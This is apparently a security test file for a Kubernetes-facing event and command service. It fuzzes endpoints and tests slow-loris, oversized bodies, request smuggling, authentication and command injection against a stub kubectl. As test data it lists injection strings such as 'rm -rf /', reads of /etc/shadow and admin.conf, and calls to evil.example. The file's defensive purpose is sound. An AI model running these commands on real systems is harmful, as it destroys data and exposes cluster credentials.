/**
 * Hostile input against the whole data plane, with real plugins behind it: property-based fuzzing of
 * every endpoint (fast-check), slow-loris and oversized bodies, authentication, and injection attempts
 * through /commands into the real kubectl executor. The contract: no 5xx (503/504 only where a plugin
 * is down or slow), every 4xx a JSON {error:{code,message}}, no crash, and a valid request still works.
 */
import assert from "node:assert/strict";
import { createHmac } from "node:crypto";
import { chmod, mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { connect } from "node:net";
import { tmpdir } from "node:os";
import path from "node:path";
import { after, before, describe, it } from "node:test";
import fc from "fast-check";
import type { Notifier } from "../../src/api/v1alpha1/index.ts";
import { READ_ONLY_VERBS } from "../../plugins/kubectl/policy.ts";
import { contractBreach, keepAlive, postEvent, send, type Answer, type Outgoing } from "./support/http.ts";
import { allReady, startPlane, webhookNotifier, type Plane } from "./support/plane.ts";
import { startCountingReceiver, type CountingReceiver } from "./support/receiver.ts";

const RUNS = Number(process.env.PATCHBAY_FUZZ_RUNS ?? 300);
const SLACK_SECRET = "slack-signing-secret";
const MM_TOKEN = "mattermost-token";

let plane: Plane;
let receiver: CountingReceiver;
let dir: string;
let recordFile: string;
const agent = keepAlive();
const slowLoris: { cutAfterMs?: number; answer?: string; promise?: Promise<void> } = {};

before(async () => {
  dir = await mkdtemp(path.join(tmpdir(), "patchbay-hostile-"));
  recordFile = path.join(dir, "kubectl-argv");
  const kubectl = path.join(dir, "kubectl");
  // A stand-in kubectl that records the argv it was given, one tab-separated line per run.
  await writeFile(
    kubectl,
    `#!/bin/sh\nfor a in "$@"; do printf '%s\\t' "$a"; done >> '${recordFile}'\nprintf '\\n' >> '${recordFile}'\necho 'NAME READY'\n`,
  );
  await chmod(kubectl, 0o755);
  await writeFile(recordFile, "");
  receiver = await startCountingReceiver();
  const chatNotifier = (name: string, type: "slack" | "mattermost"): Notifier => ({
    apiVersion: "patchbay.dev/v1alpha1",
    kind: "Notifier",
    metadata: { name },
    spec:
      type === "slack"
        ? {
            type,
            slack: { webhookUrl: { value: receiver.url } },
            commands: { executors: ["echo", "kubectl"], slack: { signingSecret: { value: SLACK_SECRET } } },
          }
        : {
            type,
            mattermost: { webhookUrl: { value: receiver.url } },
            commands: { executors: ["echo"], mattermost: { token: { value: MM_TOKEN } } },
          },
  });
  plane = await startPlane({
    sources: [
      { name: "demo", file: "plugins/cloudevents/main.ts", config: { allowedTypes: ["com.example.*"] } },
      { name: "alerts", file: "plugins/prometheus/main.ts" },
    ],
    executors: [
      { name: "echo", file: "plugins/echo/main.ts", prefixes: ["echo"], timeoutSeconds: 2 },
      {
        name: "kubectl",
        file: "plugins/kubectl/main.ts",
        prefixes: ["kubectl"],
        config: { kubectlPath: kubectl },
      },
    ],
    notifiers: [
      webhookNotifier("hook", receiver.url),
      chatNotifier("team-slack", "slack"),
      chatNotifier("team-mm", "mattermost"),
    ],
  });
  await allReady(plane, [
    { kind: "source", name: "demo" },
    { kind: "source", name: "alerts" },
    { kind: "executor", name: "echo" },
    { kind: "executor", name: "kubectl" },
  ]);
  slowLoris.promise = dribbleHeaders(plane.url, slowLoris);
});

after(async () => {
  agent.destroy();
  await plane?.stop();
  await receiver?.close();
  await rm(dir, { recursive: true, force: true });
});

/** Sends one header byte per second; records when (and how) the server cut the connection. */
function dribbleHeaders(url: string, result: typeof slowLoris): Promise<void> {
  const { hostname, port } = new URL(url);
  const request =
    "POST /events HTTP/1.1\r\nHost: x\r\nContent-Type: application/cloudevents+json\r\nX-Slow: ";
  return new Promise((resolve) => {
    const started = Date.now();
    const socket = connect(Number(port), hostname);
    let answer = "";
    let sent = 0;
    const timer = setInterval(() => {
      if (sent < request.length) socket.write(request[sent++]!);
      else socket.write("a");
    }, 1_000);
    socket.on("data", (chunk: Buffer) => (answer += chunk.toString()));
    socket.on("error", () => {});
    socket.on("close", () => {
      clearInterval(timer);
      result.cutAfterMs = Date.now() - started;
      result.answer = answer;
      resolve();
    });
    // Bounded: give up after 30 s (the assertion then fails).
    setTimeout(() => socket.destroy(), 30_000).unref();
  });
}

const latin1 = fc
  .oneof(fc.integer({ min: 0x20, max: 0x7e }), fc.integer({ min: 0x80, max: 0xff }))
  .map((code) => String.fromCharCode(code));
const headerValue = fc.string({ unit: latin1, maxLength: 40 });
const anyText = fc.oneof(
  fc.string({ unit: "grapheme", maxLength: 200 }),
  fc.string({ unit: "binary", maxLength: 200 }),
  fc.jsonValue({ maxDepth: 8, stringUnit: "grapheme" }).map((v) => JSON.stringify(v) ?? ""),
);
const contentTypes = fc.oneof(
  fc.constantFrom(
    "application/cloudevents+json",
    "application/cloudevents+json; charset=utf-8",
    "application/cloudevents-batch+json",
    "application/cloudevents+xml",
    "application/cloudevents",
    "application/json",
    "text/plain",
    "multipart/form-data; boundary=x",
    "application/x-www-form-urlencoded",
    "",
  ),
  headerValue,
);

/** A CloudEvent-ish object: each attribute valid, invalid, or missing. */
const eventish = fc.record(
  {
    specversion: fc.oneof(fc.constant("1.0"), fc.constant("0.3"), fc.jsonValue()),
    id: fc.oneof(fc.string({ minLength: 1, maxLength: 30 }), fc.jsonValue()),
    source: fc.oneof(fc.constantFrom("demo", "alerts", "nope", ""), fc.jsonValue()),
    type: fc.oneof(
      fc.constantFrom("com.example.x", "org.other.y"),
      fc.string({ unit: "grapheme" }),
      fc.jsonValue(),
    ),
    time: fc.oneof(fc.constant("2024-05-01T12:00:00Z"), fc.string(), fc.jsonValue()),
    subject: fc.string({ unit: "grapheme" }),
    datacontenttype: fc.constantFrom("application/json", "text/plain", "application/octet-stream"),
    data: fc.jsonValue({ maxDepth: 20, stringUnit: "grapheme" }),
    data_base64: fc.oneof(fc.base64String(), fc.string()),
    severity: fc.oneof(fc.constantFrom("info", "critical", "loud"), fc.jsonValue()),
    ext1: fc.jsonValue(),
  },
  { requiredKeys: [] },
);
/** Valid-looking except where fast-check chooses otherwise; usually admitted. */
const mostlyValidEvent = fc.record({
  specversion: fc.constant("1.0"),
  id: fc.string({ minLength: 1, maxLength: 40, unit: "grapheme" }),
  source: fc.constant("demo"),
  type: fc.constantFrom("com.example.a", "com.example.b.c", "org.other"),
  data: fc.jsonValue({ maxDepth: 30, stringUnit: "grapheme" }),
});
const ceHeaders = fc.dictionary(
  fc.stringMatching(/^ce-[a-z0-9]{1,12}$/),
  fc.oneof(headerValue, fc.constantFrom("1.0", "demo", "com.example.x", "id-1")),
  { maxKeys: 8 },
);

const eventRequests: fc.Arbitrary<Outgoing> = fc.oneof(
  fc.record({
    path: fc.constant("/events"),
    headers: fc.record({ "content-type": contentTypes }),
    body: anyText,
  }),
  fc.record({
    path: fc.constant("/events"),
    headers: fc.tuple(ceHeaders, contentTypes).map(([ce, type]) => ({ ...ce, "content-type": type })),
    body: anyText,
  }),
  fc.oneof(eventish, mostlyValidEvent).map((event) => ({
    path: "/events",
    headers: { "content-type": "application/cloudevents+json" },
    body: JSON.stringify(event),
  })),
  fc.array(fc.oneof(eventish, mostlyValidEvent, fc.jsonValue()), { maxLength: 20 }).map((batch) => ({
    path: "/events",
    headers: { "content-type": "application/cloudevents-batch+json" },
    body: JSON.stringify(batch),
  })),
  fc.record({
    method: fc.constantFrom("GET", "PUT", "DELETE", "PATCH", "OPTIONS"),
    path: fc.constant("/events"),
  }),
);

async function fuzz(
  arbitrary: fc.Arbitrary<Outgoing>,
  check: (o: Outgoing, a: Answer) => string | undefined,
) {
  const failures: string[] = [];
  let runs = 0;
  const statuses = new Map<number, number>();
  await fc.assert(
    fc.asyncProperty(arbitrary, async (outgoing) => {
      runs++;
      const answer = await send(plane.url, outgoing, agent);
      statuses.set(answer.status, (statuses.get(answer.status) ?? 0) + 1);
      const breach = check(outgoing, answer);
      if (breach) failures.push(`${outgoing.method ?? "POST"} ${outgoing.path}: ${breach}`);
      return breach === undefined;
    }),
    { numRuns: RUNS },
  );
  assert.deepEqual(failures, []);
  return { runs, statuses: Object.fromEntries([...statuses].sort(([a], [b]) => a - b)) };
}

async function stillServes(): Promise<void> {
  const id = `still-${Math.random()}`;
  const answer = await postEvent(plane.url, {
    specversion: "1.0",
    id,
    source: "demo",
    type: "com.example.ok",
  });
  assert.equal(answer.status, 202, answer.body);
  for (const [name, plugin] of plane.plugins)
    assert.equal(plugin.process.restarts, 0, `the ${name} plugin process restarted: it crashed`);
}

describe("property-based fuzzing", () => {
  it("/events: random bodies, content types, ce-* headers, batches, deep and unicode values", async (t) => {
    const figures = await fuzz(eventRequests, (_o, answer) => contractBreach(answer));
    t.diagnostic(`/events: ${figures.runs} runs, statuses ${JSON.stringify(figures.statuses)}`);
    await stillServes();
  });

  it("/sources/*: random paths, methods and bodies to a real source plugin", async (t) => {
    const requests: fc.Arbitrary<Outgoing> = fc.record({
      method: fc.constantFrom("GET", "POST", "PUT", "DELETE", "PATCH", "OPTIONS", "PROPFIND"),
      path: fc
        .tuple(
          fc.oneof(fc.constantFrom("alerts", "demo", "nope", "%zz", "al%65rts", ""), fc.webSegment()),
          fc.webPath(),
          fc.option(fc.webQueryParameters(), { nil: undefined }),
        )
        .map(([name, rest, query]) => `/sources/${name}${rest}${query === undefined ? "" : `?${query}`}`),
      headers: fc.record({ "content-type": contentTypes }),
      body: fc.oneof(
        anyText,
        fc
          .record({ version: fc.constantFrom("4", "3"), alerts: fc.array(fc.jsonValue(), { maxLength: 5 }) })
          .map((v) => JSON.stringify(v)),
      ),
    });
    // The bundled plugin answers its own errors in the same JSON shape, so the contract holds throughout.
    const figures = await fuzz(requests, (_o, answer) => contractBreach(answer));
    t.diagnostic(`/sources: ${figures.runs} runs, statuses ${JSON.stringify(figures.statuses)}`);
    await stillServes();
  });

  it("/commands: random command lines, control characters, quotes, malformed bodies — kubectl runs only what its policy allows", async (t) => {
    const word = fc.oneof(
      {
        arbitrary: fc.constantFrom(
          "get",
          "pods",
          "-n",
          "default",
          "-o",
          "yaml",
          "hello",
          "'quoted words'",
          '"a \\" b"',
        ),
        weight: 4,
      },
      { arbitrary: fc.string({ unit: "grapheme", maxLength: 12 }), weight: 2 },
      fc.constantFrom(
        "--kubeconfig=/x",
        ";",
        "|",
        "&&",
        "$(id)",
        "`id`",
        "'",
        '"',
        "\\",
        "\t",
        "\n",
        "\u0000",
      ),
    );
    const line = fc
      .tuple(fc.constantFrom("echo", "kubectl", "say", "help", "nope", ""), fc.array(word, { maxLength: 8 }))
      .map(([first, rest]) => [first, ...rest].join(" "));
    const requests: fc.Arbitrary<Outgoing> = fc.oneof(
      fc
        .record({
          command: fc.oneof(line, fc.string({ unit: "binary" })),
          user: fc.option(fc.string(), { nil: undefined }),
        })
        .map((body) => ({
          path: "/commands",
          headers: { "content-type": "application/json" },
          body: JSON.stringify(body),
        })),
      fc.record({
        path: fc.constant("/commands"),
        headers: fc.record({ "content-type": contentTypes }),
        body: anyText,
      }),
      fc
        .jsonValue()
        .map((value) => ({ path: "/commands", body: JSON.stringify({ command: value, user: value }) })),
    );
    const figures = await fuzz(requests, (_o, answer) => contractBreach(answer, [504]));
    const runs = (await readFile(recordFile, "utf8")).split("\n").filter(Boolean);
    for (const run of runs) {
      const argv = run.split("\t").slice(0, -1);
      assert.ok(READ_ONLY_VERBS.includes(argv[0]!), `kubectl ran with verb ${JSON.stringify(argv[0])}`);
      for (const arg of argv)
        assert.doesNotMatch(arg, /[;|&`<>\n\r\0]|\$\(|\$\{/, `kubectl ran with ${JSON.stringify(argv)}`);
      assert.ok(
        !argv.some((arg) => /^--(kubeconfig|server|token|as)\b/.test(arg)),
        `kubectl ran with ${JSON.stringify(argv)}`,
      );
    }
    t.diagnostic(
      `/commands: ${figures.runs} runs, statuses ${JSON.stringify(figures.statuses)}; kubectl ran ${runs.length} times, each within its policy`,
    );
    await stillServes();
  });

  it("/chat/slack and /chat/mattermost: random forms, signatures, timestamps and tokens", async (t) => {
    const form = fc.record(
      {
        text: fc.oneof(
          fc.constantFrom("echo hi", "kubectl get pods", "help", ""),
          fc.string({ unit: "grapheme" }),
        ),
        response_url: fc.oneof(
          fc.constant(receiver.url),
          fc.constantFrom("ftp://x/", "not a url", "javascript:alert(1)"),
          fc.string(),
        ),
        user_id: fc.string(),
        channel_id: fc.string(),
        token: fc.oneof(fc.constant(MM_TOKEN), fc.string()),
      },
      { requiredKeys: [] },
    );
    const now = () => Math.floor(Date.now() / 1000);
    const requests: fc.Arbitrary<Outgoing> = fc.oneof(
      fc
        .record({
          form,
          signed: fc.oneof({ arbitrary: fc.constant(true), weight: 2 }, fc.constant(false)),
          skew: fc.oneof(fc.constant(0), fc.integer({ min: -100_000, max: 100_000 })),
          rawTimestamp: fc.option(headerValue, { nil: undefined }),
          signature: headerValue,
          notifier: fc.oneof(
            fc.constantFrom("team-slack", "team-mm", "hook", "nope", "%zz"),
            fc.webSegment(),
          ),
        })
        .map(({ form, signed, skew, rawTimestamp, signature, notifier }) => {
          const body = new URLSearchParams(form as Record<string, string>).toString();
          const timestamp = rawTimestamp ?? String(now() + skew);
          const good =
            "v0=" + createHmac("sha256", SLACK_SECRET).update(`v0:${timestamp}:${body}`).digest("hex");
          return {
            path: `/chat/slack/${notifier}`,
            headers: {
              "content-type": "application/x-www-form-urlencoded",
              "x-slack-request-timestamp": timestamp,
              "x-slack-signature": signed ? good : signature,
            },
            body,
          };
        }),
      fc
        .record({
          form,
          auth: fc.option(headerValue, { nil: undefined }),
          notifier: fc.constantFrom("team-mm", "team-slack", "nope"),
        })
        .map(({ form, auth, notifier }) => ({
          path: `/chat/mattermost/${notifier}`,
          headers: {
            "content-type": "application/x-www-form-urlencoded",
            ...(auth === undefined ? {} : { authorization: auth }),
          },
          body: new URLSearchParams(form as Record<string, string>).toString(),
        })),
      fc.record({
        path: fc.constantFrom(
          "/chat/slack/team-slack",
          "/chat/mattermost/team-mm",
          "/chat/teams/x",
          "/chat/slack",
        ),
        body: anyText,
      }),
    );
    const figures = await fuzz(requests, (_o, answer) => contractBreach(answer));
    t.diagnostic(`chat: ${figures.runs} runs, statuses ${JSON.stringify(figures.statuses)}`);
    await stillServes();
  });
});

describe("deeply nested JSON", () => {
  it("is refused with 400 past 128 levels (it could never be rendered), and delivered below", async () => {
    const nested = (depth: number) => "[".repeat(depth) + "]".repeat(depth);
    const event = (id: string, depth: number) =>
      `{"specversion":"1.0","id":"${id}","source":"demo","type":"com.example.deep","data":${nested(depth)}}`;
    const binary = (id: string, depth: number): Outgoing => ({
      path: "/events",
      headers: {
        "ce-specversion": "1.0",
        "ce-id": id,
        "ce-source": "demo",
        "ce-type": "com.example.deep",
        "content-type": "application/json",
      },
      body: nested(depth),
    });
    for (const depth of [200, 10_000, 400_000]) {
      const answers = [
        await send(plane.url, {
          path: "/events",
          headers: { "content-type": "application/cloudevents+json" },
          body: event(`deep-s-${depth}`, depth),
        }),
        await send(plane.url, {
          path: "/events",
          headers: { "content-type": "application/cloudevents-batch+json" },
          body: `[${event(`deep-b-${depth}`, depth)}]`,
        }),
        await send(plane.url, binary(`deep-x-${depth}`, depth)),
      ];
      for (const answer of answers) {
        assert.equal(answer.status, 400, `depth ${depth}: ${answer.body.slice(0, 200)}`);
        assert.match(answer.body, /"code":"too-deeply-nested"/);
      }
    }
    // Brackets inside strings do not count.
    const quoted = `{"specversion":"1.0","id":"deep-quoted","source":"demo","type":"com.example.deep","data":{"text":"${"[".repeat(1000)}\\""}}`;
    const ok = [
      await send(plane.url, {
        path: "/events",
        headers: { "content-type": "application/cloudevents+json" },
        body: event("deep-ok-s", 120),
      }),
      await send(plane.url, binary("deep-ok-x", 120)),
      await send(plane.url, {
        path: "/events",
        headers: { "content-type": "application/cloudevents+json" },
        body: quoted,
      }),
    ];
    for (const answer of ok) assert.equal(answer.status, 202, answer.body);
    const deadline = Date.now() + 5_000;
    while (
      !["deep-ok-s", "deep-ok-x", "deep-quoted"].every((id) => receiver.accepted.has(id)) &&
      Date.now() < deadline
    )
      await new Promise((resolve) => setTimeout(resolve, 20));
    assert.deepEqual(
      ["deep-ok-s", "deep-ok-x", "deep-quoted"].filter((id) => !receiver.accepted.has(id)),
      [],
      "accepted events were delivered",
    );
  });
});

describe("oversized and slow requests", () => {
  const big = (bytes: number) => Buffer.alloc(bytes, "a");

  for (const target of ["/events", "/commands", "/sources/alerts/", "/chat/slack/team-slack"]) {
    it(`${target}: a declared Content-Length over the limit gets 413 before the body is sent`, async () => {
      const answer = await rawExchange(
        `POST ${target} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 52428800\r\n\r\n`,
      );
      assert.match(answer.head, /^HTTP\/1\.1 413 /);
      assert.match(answer.body, /"code":"payload-too-large"/);
      assert.ok(answer.closed, "the connection is closed after a 413");
    });
  }

  it("a chunked body with no declared length is cut off at the limit, the connection closed", async () => {
    const { hostname, port } = new URL(plane.url);
    const started = process.memoryUsage().rss;
    const result = await new Promise<{ head: string; sent: number }>((resolve) => {
      const socket = connect(Number(port), hostname);
      let head = "";
      let sent = 0;
      let open = true;
      socket.on("data", (chunk: Buffer) => (head += chunk.toString()));
      socket.on("error", () => {});
      socket.on("close", () => {
        open = false;
        resolve({ head, sent });
      });
      socket.write(
        "POST /events HTTP/1.1\r\nHost: x\r\nContent-Type: application/cloudevents+json\r\nTransfer-Encoding: chunked\r\n\r\n",
      );
      const chunk = big(64 * 1024);
      const pump = () => {
        // Bounded: at most 64 MiB, stop as soon as the server answers or closes.
        while (open && sent < 64 * 1024 * 1024 && head === "") {
          sent += chunk.length;
          if (!socket.write(`${chunk.length.toString(16)}\r\n${chunk.toString()}\r\n`))
            return void socket.once("drain", pump);
        }
        if (open && head !== "") setTimeout(() => socket.destroy(), 2_000).unref();
      };
      pump();
    });
    assert.match(result.head, /^HTTP\/1\.1 413 /);
    assert.ok(result.sent < 16 * 1024 * 1024, `the server read ${result.sent} bytes before refusing`);
    assert.ok(process.memoryUsage().rss - started < 64 * 1024 * 1024);
  });

  it("Content-Length together with Transfer-Encoding (request smuggling) is refused with 400", async () => {
    const smuggled = `POST /commands HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 31\r\n\r\n{"command":"kubectl delete ns"}`;
    const answer = await rawExchange(
      `POST /events HTTP/1.1\r\nHost: x\r\nContent-Type: application/cloudevents+json\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${smuggled}`,
    );
    assert.match(answer.head, /^HTTP\/1\.1 400 /);
    assert.match(answer.body, /"code":"bad-request"/);
    assert.doesNotMatch(answer.body, /kubectl/);
    assert.ok(answer.closed);
  });

  it("slow-loris: headers dribbled one byte per second are cut off by the headers timeout", async (t) => {
    await slowLoris.promise;
    assert.ok(slowLoris.cutAfterMs! < 15_000, `the connection stayed open ${slowLoris.cutAfterMs} ms`);
    assert.match(slowLoris.answer ?? "", /^(HTTP\/1\.1 408 |$)/);
    t.diagnostic(
      `slow-loris connection cut after ${slowLoris.cutAfterMs} ms with ${JSON.stringify((slowLoris.answer ?? "").split("\r\n")[0])}`,
    );
    await stillServes();
  });
});

describe("authentication and injection", () => {
  it("with tokens configured: no token, a wrong token or another scheme all get 401 on every protected route", async () => {
    const guarded = await startPlane({ tokens: ["s3cret-token"] });
    try {
      const tries: Record<string, string | undefined> = {
        none: undefined,
        wrong: "Bearer not-the-token",
        basic: `Basic ${Buffer.from("user:s3cret-token").toString("base64")}`,
        token: "Token s3cret-token",
        bare: "s3cret-token",
        empty: "Bearer ",
        trailing: "Bearer s3cret-token extra",
        prefix: "Bearer s3cret-toke",
      };
      for (const target of ["/events", "/commands", "/sources/alerts/x"]) {
        for (const [what, authorization] of Object.entries(tries)) {
          const answer = await send(guarded.url, {
            path: target,
            headers: { "content-type": "application/json", ...(authorization ? { authorization } : {}) },
            body: "{}",
          });
          assert.equal(answer.status, 401, `${target} with ${what}: ${answer.status} ${answer.body}`);
          assert.equal(contractBreach(answer), undefined);
          assert.match(String(answer.headers["www-authenticate"]), /^Bearer/);
        }
        const right = await send(guarded.url, {
          path: target,
          headers: { "content-type": "application/json", authorization: "Bearer s3cret-token" },
          body: "{}",
        });
        assert.notEqual(right.status, 401, `${target} with the right token`);
      }
    } finally {
      await guarded.stop();
    }
  });

  it("injection attempts through /commands run nothing in the real kubectl executor", async (t) => {
    await writeFile(recordFile, "");
    const attempts = [
      "kubectl get pods; rm -rf /",
      "kubectl get pods && touch /tmp/pwned",
      "kubectl get pods | sh",
      "kubectl get pods `id`",
      "kubectl get pods $(id)",
      "kubectl get pods ${HOME}",
      "kubectl get pods > /etc/passwd",
      "kubectl get pods\nkubectl delete ns default",
      "kubectl get pods\u0000--all",
      'kubectl get pods "; id; echo "',
      "kubectl get pods '$(id)'",
      "kubectl delete ns default",
      "kubectl exec -it pod -- sh",
      "kubectl apply -f https://evil.example/x.yaml",
      "kubectl get pods --kubeconfig=/etc/kubernetes/admin.conf",
      "kubectl get pods --token=abc --server=https://evil.example",
      "kubectl get secrets --as=system:admin",
      "kubectl get pods -n default --as-group=system:masters",
      "kubectl get pods -o go-template-file=/etc/shadow",
      "kubectl get --raw /api/v1/secrets",
      "kubectl get pods -- --kubeconfig=/x",
      "kubectl get pods -n --kubeconfig=/x",
      "kubectl logs pod -f",
      "kubectl get pods -w",
      "kubectl -v=9 get pods",
      "kubectl\tget pods;id",
    ];
    const statuses: number[] = [];
    for (const command of attempts) {
      const answer = await send(plane.url, {
        path: "/commands",
        headers: { "content-type": "application/json" },
        body: JSON.stringify({ command }),
      });
      statuses.push(answer.status);
      assert.ok(
        [400, 403].includes(answer.status),
        `${JSON.stringify(command)} → ${answer.status} ${answer.body}`,
      );
      assert.equal(contractBreach(answer), undefined);
    }
    assert.equal(await readFile(recordFile, "utf8"), "", "kubectl was run for an injection attempt");
    // The check is real: an allowed command does reach kubectl, exactly as typed.
    const allowed = await send(plane.url, {
      path: "/commands",
      headers: { "content-type": "application/json" },
      body: JSON.stringify({ command: "kubectl get pods -n default" }),
    });
    assert.equal(allowed.status, 200, allowed.body);
    assert.equal(await readFile(recordFile, "utf8"), "get\tpods\t-n\tdefault\t\n");
    t.diagnostic(
      `${attempts.length} injection attempts refused (${statuses.filter((s) => s === 403).length} × 403, ${statuses.filter((s) => s === 400).length} × 400); kubectl ran 0 times`,
    );
  });
});

/** Writes raw bytes, reads until the server closes (or 5 s), splits head and body. */
function rawExchange(raw: string): Promise<{ head: string; body: string; closed: boolean }> {
  const { hostname, port } = new URL(plane.url);
  return new Promise((resolve) => {
    const socket = connect(Number(port), hostname);
    let text = "";
    let closed = false;
    const finish = () => {
      const at = text.indexOf("\r\n\r\n");
      resolve({ head: at < 0 ? text : text.slice(0, at), body: at < 0 ? "" : text.slice(at + 4), closed });
    };
    const timer = setTimeout(() => {
      socket.destroy();
      finish();
    }, 5_000);
    socket.on("data", (chunk: Buffer) => (text += chunk.toString()));
    socket.on("error", () => {});
    socket.on("close", () => {
      closed = true;
      clearTimeout(timer);
      finish();
    });
    socket.write(raw);
  });
}
